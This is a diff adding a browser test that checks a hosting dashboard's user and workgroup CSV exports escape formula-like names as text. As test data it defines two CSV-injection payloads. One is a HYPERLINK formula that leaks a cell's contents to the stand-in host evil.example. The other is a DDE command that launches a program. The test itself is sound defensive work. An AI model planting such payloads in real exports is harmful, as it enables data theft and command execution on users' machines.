@@ -294,6 +294,42 @@ def test_a_name_is_shown_as_text_and_not_run(browser, server) -> None:
     context.close()
 
 
+#: names a domain's admin may choose that a spreadsheet would run as formulas
+FORMULA_WORKGROUP = '=HYPERLINK("http:evil.example?"&A2,"x")'
+FORMULA_USER = "=cmd|'-ccalc'!a0@example.org"
+
+
+def test_names_like_formulas_stay_text_in_every_csv(browser, server) -> None:
+    """A workgroup and an address that begin like formulas (session 15): the
+    dashboard's own CSVs (users, workgroups) keep them as text behind a ``'``,
+    as the stats_snapshot CSV does (tests/test_attack_chains2.py)."""
+    admin = {"user": ADMIN[0], "password": ADMIN[1]}
+    attributes = {"password": "x-password-1", "workgroup": FORMULA_WORKGROUP}
+    for method, body in (
+        ("create_workgroup", {"domain": "example.org", "workgroup": FORMULA_WORKGROUP}),
+        ("change_user", {"user": FORMULA_USER, "attributes": attributes}),
+    ):
+        answer = server.call(method, admin, **body)
+        assert answer["success"], answer
+    context = browser.new_context(accept_downloads=True)
+    page = context.new_page()
+    sign_in(page, server, *ADMIN, hash_="#/company/Example%20Hosting/domain/example.org?period=day")
+    page.fill("#user-search", "cmd")
+    page.wait_for_function(
+        "() => [...document.querySelectorAll('#users-table tbody tr td:first-child')]"
+        ".map(t => t.textContent).join() === " + repr(FORMULA_USER)
+    )
+    page.wait_for_selector("#workgroups-table tbody tr")
+    cells: list[str] = []
+    for table_id in ("users-table", "workgroups-table"):
+        with page.expect_download() as d:
+            page.click(f"#lists button.csv[data-table={table_id}]")
+        cells += [c for r in csv.reader(io.StringIO(Path(d.value.path()).read_text())) for c in r]
+    assert "'" + FORMULA_USER in cells and "'" + FORMULA_WORKGROUP in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("-").isdigit()]
+    context.close()
+
+
 def test_a_wrong_password_shows_the_error(browser, server) -> None:
     context = browser.new_context()
     page = context.new_page()
